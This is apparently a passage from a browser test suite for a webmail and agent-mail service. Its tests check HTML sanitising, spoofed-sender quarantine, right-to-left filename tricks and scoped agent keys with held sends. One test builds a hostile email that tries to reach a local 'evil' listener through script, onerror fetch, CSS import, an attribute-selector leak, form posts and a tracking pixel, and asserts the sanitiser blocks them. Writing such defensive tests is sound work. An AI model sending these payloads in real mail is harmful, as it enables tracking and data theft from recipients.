    "Delivered-To: ann@newco.example\r\nFrom: Shop <news@shop.example>\r\nTo: ann@newco.example\r\n"
    "Subject: Our new logo\r\nMessage-ID: <logo@shop.example>\r\nMIME-Version: 1.0\r\n"
    'Content-Type: multipart/mixed; boundary="m"\r\n\r\n'
    '--m\r\nContent-Type: multipart/related; boundary="r"\r\n\r\n'
    "--r\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    '<p>Here it is:</p><img id="logo" src="cid:logo-1@shop.example" alt="Shop logo">\r\n'
    "--r\r\nContent-Type: image/png\r\nContent-ID: <logo-1@shop.example>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    + ONE_PIXEL + "\r\n--r--\r\n"
    '--m\r\nContent-Type: application/pdf; name="price-list.pdf"\r\nContent-Disposition: attachment; filename="price-list.pdf"\r\n'
    "Content-Transfer-Encoding: base64\r\n\r\n" + PDF + "\r\n--m--\r\n"
)


def inline_images(page, watch):
    """An HTML mail's logo shows in place (cid:), not as a nameless file; a
    PDF previews in a frame Chromium's viewer may use."""
    harness("/deliver", raw=NEWSLETTER)
    nav(page, "Mail")
    page.get_by_role("tab", name="Inbox").click()
    page.locator("ul.threads li[data-thread]", has_text="Our new logo").get_by_role("link").click()
    logo = page.frame_locator("iframe.mail-html").locator("img#logo")
    expect(logo).to_have_attribute("src", re.compile(r"^data:image/png;base64,"))
    assert logo.evaluate("img => img.complete && img.naturalWidth") == 1
    attachments = page.locator("article.message .attachments")
    expect(attachments).to_contain_text("price-list.pdf")
    expect(attachments).not_to_contain_text("attachment-1")
    expect(attachments.locator("li")).to_have_count(1)
    attachments.get_by_role("button", name="Preview").click()
    frame = page.locator("iframe.pdf-preview")
    expect(frame).to_have_attribute("src", re.compile(r"^blob:"))
    assert frame.get_attribute("sandbox") is None
    expect(page.get_by_role("link", name="Open price-list.pdf in a new tab")).to_be_visible()
    # e archives the open conversation and goes back to the list.
    page.keyboard.press("e")
    expect(page.get_by_role("list", name="Threads in inbox")).to_contain_text("Nothing in inbox")
    watch.check()


class Listener(http.server.BaseHTTPRequestHandler):
    """The 'other site': every request it gets is counted."""

    hits = []

    def _count(self):
        Listener.hits.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()

    do_GET = do_POST = _count

    def log_message(self, *args):
        pass


def malicious(page, watch):
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    evil = f"http://127.0.0.1:{server.server_address[1]}"
    html = f"""<html><head>
<meta http-equiv="refresh" content="0;url={evil}/refresh">
<style>@import url({evil}/import.css); body {{ background: url({evil}/bg.png); }}
input[value^="a"] {{ background-image: url({evil}/exfil-a); }}</style>
<link rel="stylesheet" href="{evil}/link.css">
</head><body>
<script>window.top.postMessage('ran','*'); new Image().src='{evil}/script';</script>
<img src="x" onerror="fetch('{evil}/onerror')">
<img src="{evil}/pixel.gif" alt="tracker">
<p style="background:url({evil}/inline-style)">Hello Ann</p>
<form action="{evil}/form" method="post"><input name="q" value="abc"><button>Go</button></form>
<a href="javascript:fetch('{evil}/js-link')" id="jslink">click me</a>
<a href="{evil}/page" id="plain">a plain link</a>
<iframe src="{evil}/frame"></iframe>
<svg><script>fetch('{evil}/svg')</script></svg>
</body></html>"""
    raw = (
        "Delivered-To: ann@newco.example\r\nFrom: Mallory <m@evil.example>\r\nTo: ann@newco.example\r\n"
        "Subject: Totally harmless\r\nMessage-ID: <evil@evil.example>\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/alternative; boundary="b"\r\n\r\n'
        "--b\r\nContent-Type: text/plain\r\n\r\nHello Ann\r\n"
        f"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n--b--\r\n"
    )
    harness("/deliver", raw=raw)
    page.evaluate("window.__messages = []; window.addEventListener('message', e => window.__messages.push(e.data))")
    nav(page, "Mail")
    page.get_by_role("tab", name="Inbox").click()
    page.locator("ul.threads li[data-thread]", has_text="Totally harmless").get_by_role("link").click()
    frame_el = page.locator("iframe.mail-html")
    expect(frame_el).to_be_visible()
    assert frame_el.get_attribute("sandbox") == "allow-popups allow-popups-to-escape-sandbox"
    frame = frame_el.content_frame
    expect(frame.locator("body")).to_contain_text("Hello Ann")
    assert frame.locator("#plain").get_attribute("rel") == "noopener noreferrer"
    assert frame.locator("#jslink").get_attribute("href") is None
    expect(page.get_by_role("button", name="Show images")).to_be_visible()
    frame.locator("#jslink").click()
    page.wait_for_timeout(1500)
    shot(page, "malicious-mail")
    # The cleaned mail did not even try, and cleaning it logged nothing: no
    # handler met the page's policy, no src="x" asked the app's origin.
    tried = [u for u in watch.urls if u.startswith(evil)]
    assert tried == [] and Listener.hits == [], (tried, Listener.hits)
    own = f"{BASE}/x"
    assert own not in watch.urls, watch.urls
    watch.check()
    # Shown with its images: the remote ones load, the relative one still not.
    page.get_by_role("button", name="Show images").click()
    expect(frame.locator('img[alt="tracker"]')).to_have_attribute("src", f"{evil}/pixel.gif")
    page.wait_for_timeout(1000)
    assert "GET /pixel.gif" in Listener.hits, Listener.hits
    assert own not in watch.urls and not any(h.startswith("GET /x") for h in Listener.hits), (watch.urls, Listener.hits)
    watch.check()
    Listener.hits.clear()
    shown = len(watch.answered)
    page.get_by_role("button", name="Trash").click()
    expect(page.get_by_role("list", name="Threads in inbox")).not_to_contain_text("Totally harmless")
    page.get_by_role("tab", name="Trash").click()
    expect(page.get_by_role("list", name="Threads in trash")).to_contain_text("Totally harmless")
    # The second layer alone: the raw HTML, not cleaned, in a frame like the
    # app's, with the frame's own policy.
    page.evaluate(
        """async (html) => {
            const m = await import(document.querySelector('script[type=module]').src.replace('main.js', 'message.js'));
            const f = document.createElement('iframe');
            f.setAttribute('sandbox', 'allow-popups allow-popups-to-escape-sandbox');
            f.id = 'raw-frame';
            f.srcdoc = m.frameDocument(html, false);
            document.body.append(f);
        }""",
        html,
    )
    page.wait_for_timeout(2500)
    raw_frame = page.frame_locator("#raw-frame")
    raw_frame.locator("#jslink").click()
    raw_frame.locator("form button").click()
    page.wait_for_timeout(1000)
    assert Listener.hits == [], f"the mail reached out: {Listener.hits}"
    assert page.evaluate("window.__messages") == [], "a script in the mail ran"
    answered = [u for u in watch.answered[shown:] if u.startswith(evil)]
    assert answered == [], answered
    # The raw frame's blocks are the policy at work: its console lines are expected.
    watch.errors = [e for e in watch.errors if "Content Security Policy" not in e and "sandbox" not in e.lower()]
    page.evaluate("document.getElementById('raw-frame').remove()")
    server.shutdown()
    watch.check()


def quarantine(page, watch):
    """Mail that fails its domain's p=reject is kept out of the inbox, listed
    apart, and read with the warning first."""
    harness("/dns", body=[{"type": "TXT", "host": "_dmarc.bank.example", "value": "v=DMARC1; p=reject"},
                          {"type": "TXT", "host": "bank.example", "value": "v=spf1 ip4:192.0.2.0/24 -all"}])
    harness("/deliver", raw=(
        "Delivered-To: ann@newco.example\r\nFrom: CEO <ceo@bank.example>\r\nTo: ann@newco.example\r\n"
        "Subject: Wire the money today\r\nMessage-ID: <spoof@bank.example>\r\n\r\nSend it now.\r\n"))
    nav(page, "Mail")
    page.get_by_role("tab", name="Inbox").click()
    expect(page.get_by_role("list", name="Threads in inbox")).to_contain_text("Nothing in inbox")
    page.get_by_role("tab", name="Quarantine").click()
    kept = page.get_by_role("list", name="Mail kept out of the inbox")
    expect(kept).to_contain_text("Wire the money today")
    expect(kept).to_contain_text("Kept out: spoofed")
    kept.get_by_role("link").first.click()
    trust = page.locator("article.message .trust")
    expect(trust).to_have_attribute("data-trust", "spoofed")
    expect(trust).to_contain_text("Not from bank.example")
    expect(trust).to_contain_text("Kept out of your inbox")
    expect(page.locator("article.message")).to_contain_text("Send it now.")
    shot(page, "quarantine")
    page.get_by_role("button", name="← Back").click()
    expect(page.get_by_role("list", name="Mail kept out of the inbox")).to_be_visible()
    # Issue 40: bank.example beside a stranger's address is judged too, and
    # the note names every sender.
    harness("/deliver", raw=(
        "Delivered-To: ann@newco.example\r\nFrom: CEO <ceo@bank.example>, x@attacker.example\r\n"
        "To: ann@newco.example\r\nSubject: Wire it twice\r\nMessage-ID: <spoof-2@bank.example>\r\n\r\nNow.\r\n"))
    page.get_by_role("tab", name="Inbox").click()
    page.get_by_role("tab", name="Quarantine").click()
    kept = page.get_by_role("list", name="Mail kept out of the inbox")
    kept.locator("li", has_text="Wire it twice").get_by_role("link").click()
    trust = page.locator("article.message .trust")
    expect(trust).to_have_attribute("data-trust", "spoofed")
    expect(trust).to_contain_text("Not from bank.example")
    expect(trust).to_contain_text("It names 2 senders, each judged: ceo@bank.example, x@attacker.example.")
    page.get_by_role("button", name="← Back").click()
    watch.check()


def bidi(page, watch):
    """Issue 40: a right-to-left override never turns a name around: not in
    what the service stored, and not in what the app shows or saves."""
    harness("/deliver", raw=(
        "Delivered-To: ann@newco.example\r\nFrom: Bill <bill@vendor.example>\r\nTo: ann@newco.example\r\n"
        "Subject: Invoice \u202efdp.exe\r\nMessage-ID: <rlo@vendor.example>\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nSee the file.\r\n'
        "--b\r\nContent-Type: application/octet-stream\r\n"
        "Content-Disposition: attachment; filename*=UTF-8''receipt_%E2%80%AEfdp.exe\r\n\r\nMZ\r\n--b--\r\n"))
    nav(page, "Mail")
    page.get_by_role("tab", name="Inbox").click()
    row = page.locator("ul.threads li[data-thread]", has_text="Invoice fdp.exe")
    expect(row).to_be_visible()
    assert "\u202e" not in row.inner_text()
    row.get_by_role("link").click()
    button = page.get_by_role("button", name="Download receipt_fdp.exe")
    expect(button).to_be_visible()
    with page.expect_download() as dl:
        button.click()
    assert dl.value.suggested_filename == "receipt_fdp.exe", dl.value.suggested_filename
    # What the app shows goes without the controls whatever the API gives
    # (mail stored before the service removed them).
    shown = page.evaluate(
        """async () => {
            const ui = await import(document.querySelector('script[type=module]').src.replace('main.js', 'ui.js'));
            const el = ui.h('span', { text: 'receipt_\\u202efdp.exe', title: 'a\\u2066b\\u2069' }, 'c\\u200fd');
            return [el.textContent, el.title, ui.plain('x\\u061cy\\u202a\\u202bz')];
        }"""
    )
    assert shown == ["receipt_fdp.exec" + "d", "ab", "xyz"], shown
    page.get_by_role("button", name="Trash").click()
    expect(page.get_by_role("list", name="Threads in inbox")).not_to_contain_text("Invoice")
    watch.check()


LONG_WORD = "Supercalifragilistic" * 8
LONG_URL = "https://docs.partner.example/" + "a1b2c3d4" * 30


def received(sender, subject, text, message_id):
    return (
        f"Delivered-To: ann@newco.example\r\nFrom: {sender}\r\nTo: ann@newco.example\r\n"
        f"Subject: {subject}\r\nMessage-ID: <{message_id}>\r\nMIME-Version: 1.0\r\n"
        f"Content-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n"
    )


def narrow_enough(page, what):
    """The page never scrolls sideways, at 1280 px nor at 390."""
    for width in (1280, 390):
        page.set_viewport_size({"width": width, "height": 844})
        page.wait_for_timeout(150)
        scroll, client = page.evaluate("[document.scrollingElement.scrollWidth, document.scrollingElement.clientWidth]")
        assert scroll <= client, f"{what} scrolls sideways at {width} px: {scroll} > {client}"
    page.set_viewport_size({"width": 1280, "height": 800})


def mail_lists(page, watch):
    """A long word wraps; leaving a thread returns to the list it came from
    (Back, Escape, the browser's Back); search is the full search (GET
    /search); the trash offers Move to inbox and Delete forever; spam has
    its tab, Report spam and Not spam."""
    harness("/next-minute", body={})
    harness("/deliver", raw=received("Kim <kim@partner.example>", LONG_WORD,
                                     f"Read {LONG_URL} before Friday.\r\nThe quarterly numbers are in.", "long@partner.example"))
    nav(page, "Mail")
    page.get_by_role("tab", name="Inbox").click()
    page.locator("ul.threads li[data-thread]", has_text=LONG_WORD[:40]).get_by_role("link").click()
    expect(page.locator("article.message")).to_contain_text("docs.partner.example")
    narrow_enough(page, "a thread with a long subject and URL")

    # Words in any order and an operator: only the full search finds it.
    search = page.get_by_role("searchbox", name="Search")
    search.fill("numbers quarterly from:kim@partner.example")
    with page.expect_request(lambda r: "/search?" in r.url) as asked:
        page.get_by_role("button", name="Search", exact=True).click()
    assert "q=numbers" in asked.value.url, asked.value.url
    results = page.get_by_role("list", name="Search results for numbers quarterly from:kim@partner.example")
    expect(results).to_contain_text("Supercalifragilistic")
    expect(results).to_contain_text("quarterly numbers")
    results.get_by_role("link").first.click()
    expect(page.locator("article.message")).to_contain_text("docs.partner.example")
    page.keyboard.press("Escape")
    expect(results).to_be_visible()
    expect(search).to_have_value("numbers quarterly from:kim@partner.example")

    # Opened from the archive, left three ways: back in the archive each time.
    results.get_by_role("link").first.click()
    page.get_by_role("button", name="Archive").click()
    page.get_by_role("tab", name="Archive").click()
    archive = page.get_by_role("list", name="Threads in archive")
    opened = archive.locator("li[data-thread]", has_text=LONG_WORD[:40]).get_by_role("link")
    opened.click()
    page.get_by_role("button", name="← Back").click()
    expect(archive).to_be_visible()
    opened.click()
    expect(page.locator("article.message")).to_be_visible()
    page.keyboard.press("Escape")
    expect(archive).to_be_visible()
    opened.click()
    expect(page.locator("article.message")).to_be_visible()
    page.go_back()
    expect(archive).to_be_visible()
    expect(page.get_by_role("tab", name="Archive")).to_have_attribute("aria-selected", "true")

    # The trash: Move to inbox, and Delete forever once confirmed.
    opened.click()
    page.get_by_role("button", name="Trash").click()
    expect(archive).not_to_contain_text("Supercalifragilistic")
    page.get_by_role("tab", name="Trash").click()
    trash = page.get_by_role("list", name="Threads in trash")
    trash.locator("li[data-thread]", has_text=LONG_WORD[:40]).get_by_role("link").click()
    page.get_by_role("button", name="Move to inbox").click()
    expect(trash).not_to_contain_text("Supercalifragilistic")
    page.get_by_role("tab", name="Inbox").click()
    inbox = page.get_by_role("list", name="Threads in inbox")
    inbox.locator("li[data-thread]", has_text=LONG_WORD[:40]).get_by_role("link").click()
    page.get_by_role("button", name="Trash").click()
    page.get_by_role("tab", name="Trash").click()
    trash.locator("li[data-thread]", has_text=LONG_WORD[:40]).get_by_role("link").click()
    page.get_by_role("button", name="Delete forever").click()
    expect(page.get_by_role("group", name="Delete forever?")).to_contain_text("cannot be undone")
    shot(page, "delete-forever")
    body = posted(page, "/inbox/delete", lambda: page.get_by_role("button", name="Delete for good").click())
    assert body.get("thread") and set(body) == {"thread"}, body
    expect(trash).to_be_visible()
    expect(trash).not_to_contain_text("Supercalifragilistic")

    # Spam: reported from the inbox, listed under its tab, and back.
    harness("/deliver", raw=received("Deals <deals@shop.example>", "Cheap watches", "Buy now.", "watches@shop.example"))
    page.get_by_role("tab", name="Inbox").click()
    inbox.locator("li[data-thread]", has_text="Cheap watches").get_by_role("link").click()
    body = posted(page, "/inbox", lambda: page.get_by_role("button", name="Report spam: this message from Deals").click())
    assert body["spam"] is True and body["id"], body
    expect(inbox).not_to_contain_text("Cheap watches")
    page.get_by_role("tab", name="Spam").click()
    spam = page.get_by_role("list", name="Spam")
    expect(spam).to_contain_text("Cheap watches")
    shot(page, "spam")
    spam.get_by_role("link", name=re.compile("Cheap watches")).click()
    body = posted(page, "/inbox", lambda: page.get_by_role("button", name="Not spam").click())
    assert body == {"id": body["id"], "spam": False}, body
    expect(spam).not_to_contain_text("Cheap watches")
    page.get_by_role("tab", name="Inbox").click()
    inbox.locator("li[data-thread]", has_text="Cheap watches").get_by_role("link").click()
    page.get_by_role("button", name="Trash").click()
    expect(inbox).not_to_contain_text("Cheap watches")
    watch.check()


def sent_mail(page, watch):
    """What became of each send; a bounce suppresses, and the owner lifts it.
    The page checks a message before it is sent; a send can be undone; a send
    for tomorrow stays listed and is cancelled there."""
    harness("/next-minute", body={})
    nav(page, "Mail")
    page.get_by_role("button", name="Write").click()
    compose = page.get_by_role("form", name="New message")
    # Two hosted mailboxes: the first is chosen, never "Default sender".
    expect(compose.get_by_label("From")).to_have_value("ann@newco.example")
    sends = lambda: len([u for u in watch.urls if "/sendMail" in u])
    tried = sends()
    compose.get_by_label("To").fill("pal at partner")
    compose.get_by_label("Subject").fill("")
    compose.get_by_label("Message").fill("Hello")
    compose.get_by_role("button", name="Send").click()
    expect(compose.get_by_role("alert")).to_have_text("“pal at partner” is not an email address.")
    # The error sits after the row of buttons, and goes once the person types.
    expect(compose.locator(".actions + .error")).to_have_count(1)
    compose.get_by_label("To").fill("pal@partner.example")
    expect(compose.get_by_role("alert")).to_have_count(0)
    compose.get_by_role("button", name="Send").click()
    expect(compose.get_by_role("alert")).to_have_text("Add a subject.")
    compose.get_by_label("Subject").fill("Tomorrow's note")
    compose.get_by_label("Message").fill("Sent tomorrow, unless cancelled.")
    compose.get_by_label("Send later (optional)").fill("2020-01-01T10:00")
    compose.get_by_role("button", name="Send").click()
    expect(compose.get_by_role("alert")).to_have_text("Choose a time in the future to send it.")
    assert sends() == tried, "a refused message never reached the service"
    # Undo: nothing leaves, the message is kept.
    compose.get_by_label("Send later (optional)").fill("")
    compose.get_by_role("button", name="Send").click()
    expect(page.locator(".undo-bar")).to_contain_text("Sending in")
    page.get_by_role("button", name="Undo").click()
    expect(page.locator(".undo-bar")).to_have_count(0)
    expect(compose.get_by_label("Message")).to_have_value("Sent tomorrow, unless cancelled.")
    assert sends() == tried, "an undone send never reached the service"
    # A 429 says when to try again.
    page.route(re.compile(r".*/sendMail$"), lambda route: route.fulfill(
        status=429, content_type="application/json", body='{"ok":false,"error":"Rate limit exceeded","retryAfter":42}'))
    watch.expect_refusal(429)
    compose.get_by_role("button", name="Send").click()
    page.get_by_role("button", name="Send now").click()
    expect(compose.get_by_role("alert")).to_have_text("Too many tries in a short time. Try again in 42 seconds.")
    page.unroute(re.compile(r".*/sendMail$"))
    tomorrow = page.evaluate(
        "(() => { const d = new Date(Date.now() + 86400000); d.setSeconds(0, 0);"
        " return new Date(d - d.getTimezoneOffset() * 60000).toISOString().slice(0, 16); })()")
    compose.get_by_label("Send later (optional)").fill(tomorrow)
    compose.get_by_role("button", name="Send").click()
    page.get_by_role("button", name="Send now").click()
    waiting = page.locator('[data-waiting="scheduled"]')
    expect(waiting).to_contain_text("Scheduled: it goes out at")
    waiting.get_by_role("button", name="Back to mail").click()
    # After the confirmation, Sent mail lists it, and it is cancelled there.
    nav(page, "Sent mail")
    listed = page.locator("li[data-waiting-message]", has_text="Tomorrow's note")
    expect(listed).to_contain_text("scheduled for")
    listed.get_by_role("button", name="Cancel “Tomorrow's note”").click()
    expect(listed.get_by_role("status")).to_contain_text("will not be sent")
    nav(page, "Mail")
    page.get_by_role("button", name="Write").click()
    compose = page.get_by_role("form", name="New message")
    compose.get_by_label("To").fill("bounced+web@simulator.svc.test")
    compose.get_by_label("Subject").fill("Does this arrive?")
    compose.get_by_label("Message").fill("A test of the bounce.")
    compose.get_by_role("button", name="Send").click()
    page.get_by_role("button", name="Send now").click()
    expect(page.get_by_role("form", name="New message")).to_have_count(0)
    nav(page, "Sent mail")
    expect(page.locator("li[data-waiting-message]")).to_have_count(0)
    bounced = page.locator('li[data-recipient="bounced+web@simulator.svc.test"]')
    expect(bounced.locator(".status-pill")).to_have_text("bounced")
    expect(bounced).to_contain_text("5.1.1")
    expect(bounced.locator("ol.timeline li").first).to_contain_text("handed to the receiving server")
    replied = page.locator('li[data-recipient="pal@partner.example"]').last
    expect(replied.locator(".status-pill")).to_have_text("sent")
    suppressed = page.locator('tr[data-suppressed="bounced+web@simulator.svc.test"]')
    expect(suppressed).to_contain_text("hard bounce")
    shot(page, "sent")
    # By hand: refused with the API's sentence, then listed.
    add = page.get_by_role("form", name="Suppress an address")
    add.get_by_label("Address").fill("not an address")
    watch.expect_refusal(400)
    add.get_by_role("button", name="Suppress").click()
    expect(add.get_by_role("alert")).to_be_visible()
    expect(add.get_by_label("Address")).to_have_value("not an address")
    add.get_by_label("Address").fill("nobody@partner.example")
    add.get_by_role("button", name="Suppress").click()
    expect(page.locator('tr[data-suppressed="nobody@partner.example"]')).to_contain_text("added by hand")
    page.get_by_role("button", name="Remove bounced+web@simulator.svc.test").click()
    expect(page.locator('tr[data-suppressed="bounced+web@simulator.svc.test"]')).to_have_count(0)
    watch.check()


def api_call(method, path, key, body=None):
    """A call an agent makes with its own key, outside the browser."""
    data = json.dumps(body).encode() if body is not None else None
    req = urllib.request.Request(BASE + path, data=data, method=method)
    req.add_header("Authorization", f"Bearer {key}")
    req.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(req, timeout=30) as res:
            return res.status, json.loads(res.read())
    except urllib.error.HTTPError as e:
        return e.code, json.loads(e.read())


def guardrails(page, watch, account_key):
    """The owner mints a scoped key for an agent, approves the send it held,
    keeps lists, reads the audit log and revokes the key."""
    # A slow /keys: its card says it is loading, the others are already there.
    harness("/next-minute", body={})
    held_keys = []
    page.route(re.compile(r".*/keys$"), lambda route: held_keys.append(route))
    page.locator("#nav").get_by_role("link", name="Guardrails", exact=True).click()
    expect(page.locator("#main .card[aria-busy=true] p.loading").first).to_be_visible()
    expect(page.get_by_role("heading", name="Allow and block lists")).to_be_visible()
    for _ in range(50):
        if held_keys:
            break
        page.wait_for_timeout(100)
    held_keys[0].continue_()
    page.unroute(re.compile(r".*/keys$"))
    not_blank(page, "Guardrails")
    create = page.get_by_role("form", name="New key")
    create.get_by_label("Name").fill("Support agent")
    create.get_by_label("Send mail").check()
    create.get_by_label("ann@newco.example").check()
    create.get_by_label("Sends a day (optional, 1 to 50)").fill("99")
    create.get_by_label("Approval").select_option("first_contact")
    watch.expect_refusal(400)
    create.get_by_role("button", name="Create key").click()
    expect(create.get_by_role("alert")).to_contain_text("dailySendCap")
    create.get_by_label("Sends a day (optional, 1 to 50)").fill("20")
    create.get_by_role("button", name="Create key").click()
    expect(page.get_by_text("Store this key now")).to_be_visible()
    scoped = page.locator(".key-once code.secret").inner_text()
    assert scoped.startswith("svc_"), scoped
    # Nothing invites a second mint over the shown-once key: the form is
    # emptied and closed, and the list already has the new key.
    expect(create.get_by_role("button", name="Create key")).to_be_disabled()
    expect(create.get_by_label("Name")).to_have_value("")
    expect(create.get_by_label("Name")).to_be_disabled()
    expect(page.locator("tr[data-key]", has_text="Support agent")).to_have_count(1)
    expect(page.get_by_text("No scoped keys yet.")).to_have_count(0)
    shot(page, "new-key")
    page.get_by_role("button", name="I stored it: continue").click()
    row = page.locator("tr[data-key]").first
    expect(row).to_contain_text("Support agent")
    expect(row).to_contain_text("only ann@newco.example")
    expect(row).to_contain_text("first contacts held")
    expect(page.locator(".panel")).not_to_contain_text(scoped)
    # The agent writes to someone never mailed: held for the owner.
    status, body = api_call("POST", "/sendMail", scoped, {
        "from": "ann@newco.example", "to": "stranger@elsewhere.example",
        "subject": "Hello from the agent", "text": "May I help?"})
    assert status == 202 and body["status"] == "held", (status, body)
    nav(page, "Mail")
    nav(page, "Guardrails")
    held = page.locator(f'tr[data-hold="{body["holdId"]}"]')
    expect(held).to_contain_text("Hello from the agent")
    expect(held).to_contain_text("Support agent")
    held.get_by_role("button", name="Approve “Hello from the agent”").click()
    expect(page.locator(f'tr[data-hold="{body["holdId"]}"] .status-pill')).to_have_text("sent")
    # Another held send, decided with the emailed code by someone with no key at all.
    harness("/next-minute", body={})
    status, body = api_call("POST", "/sendMail", scoped, {
        "from": "ann@newco.example", "to": "second@elsewhere.example",
        "subject": "Second note", "text": "Another?"})
    assert status == 202 and body["status"] == "held", (status, body)
    phone, phone_watch = new_page(page.context.browser, "hold-code")
    phone.goto(BASE + "/")
    decide = phone.get_by_role("form", name="Decide a held send")
    decide.get_by_role("button", name="Approve and send").click()
    expect(decide.get_by_role("alert")).to_contain_text("Enter the hold from the approval email")
    decide.get_by_label("Hold").fill(body["holdId"])
    decide.get_by_label("Approval code").fill("00000000")
    phone_watch.expect_refusal(401)
    decide.get_by_role("button", name="Approve and send").click()
    expect(decide.get_by_role("alert")).to_contain_text("not valid")
    # Never between Approve and Deny: after their row.
    expect(decide.locator(".actions + .error")).to_have_count(1)
    decide.get_by_label("Approval code").fill(harness("/approval-code?to=ann@newco.example"))
    decide.get_by_role("button", name="Approve and send").click()
    expect(phone.get_by_role("status").filter(has_text="Approved")).to_have_text("Approved: “Second note” was sent.")
    assert phone.evaluate("sessionStorage.length + localStorage.length") == 0
    phone_watch.check()
    phone.context.close()
    nav(page, "Mail")
    nav(page, "Guardrails")
    expect(page.locator(f'tr[data-hold="{body["holdId"]}"] .status-pill')).to_have_text("sent")
    # Lists: never send to a rival, then lifted.
    lists = page.get_by_role("form", name="Add a list entry")
    lists.get_by_label("Rule").select_option("send block")
    lists.get_by_label("Address or domain").fill("rival.example")
    lists.get_by_role("button", name="Add entry").click()
    entry = page.locator('tr[data-entry="send block rival.example"]')
    expect(entry).to_contain_text("Never send to")
    status, body = api_call("POST", "/sendMail", scoped, {
        "from": "ann@newco.example", "to": "ceo@rival.example", "subject": "Hi", "text": "Hi"})
    assert status == 400 and body.get("code") == "recipient_blocked", (status, body)
    shot(page, "guardrails")
    page.get_by_role("button", name="Remove rival.example").click()
    expect(page.locator('tr[data-entry="send block rival.example"]')).to_have_count(0)
    # The audit log: who did what, filtered by operation.
    audit = page.get_by_role("form", name="Filter the audit log")
    audit.get_by_label("Operation").fill("approveHold")
    audit.get_by_role("button", name="Filter").click()
    rows = page.locator("tr[data-change]")
    expect(rows).to_have_count(2)
    expect(rows.nth(0)).to_contain_text("emailed code approved the held send")
    expect(rows.nth(1)).to_contain_text("account key")
    # Answers read as sentences too, never as their raw target.
    for operation, said in (("reply", "the account key replied to the message"),
                            ("forward", "the account key forwarded the message")):
        audit.get_by_label("Operation").fill(operation)
        audit.get_by_role("button", name="Filter").click()
        expect(rows.first).to_contain_text(said)
        expect(rows.first).not_to_contain_text("{")
    audit.get_by_label("Operation").fill("")
    audit.get_by_role("button", name="Filter").click()
    # The refused mint (a cap of 99) changed nothing, so it left no row.
    minted = page.locator("tr[data-change]", has_text="created the key “Support agent”")
    expect(minted).to_have_count(1)
    expect(minted).to_contain_text("the account key created the key “Support agent”")
    expect(page.locator("tr[data-change]").first).not_to_contain_text("{")
    # What a scoped key is shown is what it may do.
    scoped_pages(page.context.browser, scoped, account_key)
    # Revoked: the key's next call is refused.
    page.get_by_role("button", name="Revoke Support agent").click()
    expect(page.locator("tr[data-key]", has_text="Support agent")).to_have_count(0)
    status, _ = api_call("GET", "/inbox", scoped)
    assert status == 401, status
    watch.check()


def scoped_pages(browser, reader, account_key):
    """A key that reads and sends sees the domain and mailboxes without the
    owner's actions, and never Guardrails; a send-only key sees Mail to write."""
    page, watch = new_page(browser, "scoped")
    for _ in range(2):  # GET /keys (not the owner), GET /webhooks (no manage)
        watch.expect_refusal(403)
    sign_in(page, reader)
    links = page.locator("#nav a").all_inner_texts()
    assert links == ["Mail", "Domain", "Mailboxes", "Sent mail"], links
    nav(page, "Mailboxes")
    expect(page.locator('tr[data-mailbox="ann@newco.example"]')).to_be_visible()
    expect(page.get_by_role("button", name="Delete")).to_have_count(0)
    expect(page.get_by_role("form", name="Add mailbox")).to_have_count(0)
    nav(page, "Domain")
    expect(page.locator('td.mark[data-purpose="dkim"]')).to_have_text("found")
    expect(page.get_by_role("button", name="Check now")).to_have_count(0)
    shot(page, "scoped-domain")
    page.get_by_role("button", name="Sign out").click()
    status, made = api_call("POST", "/keys", account_key, {
        "name": "Sender", "permissions": ["send"], "mailboxes": ["ann@newco.example"]})
    assert status in (200, 201), (status, made)
    for _ in range(3):  # the account status, the webhook, the mailboxes to send from
        watch.expect_refusal(403)
    sign_in(page, made["apiKey"])
    links = page.locator("#nav a").all_inner_texts()
    assert links == ["Mail"], links
    expect(page.get_by_text("This key may send but not read mail.")).to_be_visible()
    page.get_by_role("button", name="Write").click()
    expect(page.get_by_role("form", name="New message")).to_be_visible()
    watch.check()
    page.context.close()
    api_call("DELETE", f"/keys?id={made['key']['id']}", account_key)


def checklist_first(page, watch):
    """A new account lands on its checklist, not an empty inbox."""
    expect(page.get_by_role("heading", name="Get started")).to_be_visible()
    expect(page.locator('li[data-step="1"]')).to_have_attribute("data-done", "false")
    expect(page.get_by_role("form", name="Add domain")).to_be_visible()
    shot(page, "checklist")
    watch.check()


def checklist_done(page, watch):
    """With the domain verified and a mailbox made, the checklist says so,
    sends a first message to the simulator, shows mail app settings once and
    connects an agent."""
    nav(page, "Get started")
    for n in ["1", "2", "3"]:
        expect(page.locator(f'li[data-step="{n}"]')).to_have_attribute("data-done", "true")
    page.get_by_role("button", name="Send a test message").click()
    expect(page.locator('li[data-step="4"]')).to_have_attribute("data-done", "true")
    page.get_by_role("button", name="Show mail app settings").click()
    expect(page.get_by_text("Store this password now")).to_be_visible()
    expect(page.locator('li[data-step="5"] .settings')).to_contain_text("993")
    page.get_by_role("button", name="Create a key for an agent").click()
    setup = page.locator(".agent-setup")
    expect(setup.locator("code.secret")).to_contain_text("svc_")
    expect(setup).to_contain_text(f"{BASE}/mcp")
    expect(setup).to_contain_text("claude mcp add --transport http mailhost")
    expect(setup.get_by_role("heading")).to_be_focused()
    shot(page, "checklist-done")
    watch.check()


def account_settings(page, watch):
    """An account key has a webhook of its own, and no agent credits."""
    nav(page, "Agent settings")
    expect(page.get_by_role("form", name="Webhook")).to_be_visible()
    expect(page.get_by_role("heading", name="Credits and sending")).to_have_count(0)
    shot(page, "account-settings")
    watch.check()


def operator_pauses(page, watch):
    nav(page, "Agent settings")
    expect(page.locator("[data-sending]")).to_have_attribute("data-sending", "on")
    page.get_by_role("button", name="Pause all sending").click()
    expect(page.locator("[data-sending]")).to_have_attribute("data-sending", "paused")
    shot(page, "agent-settings")
    page.get_by_role("button", name="Resume all sending").click()
    expect(page.locator("[data-sending]")).to_have_attribute("data-sending", "on")
    nav(page, "Operators")
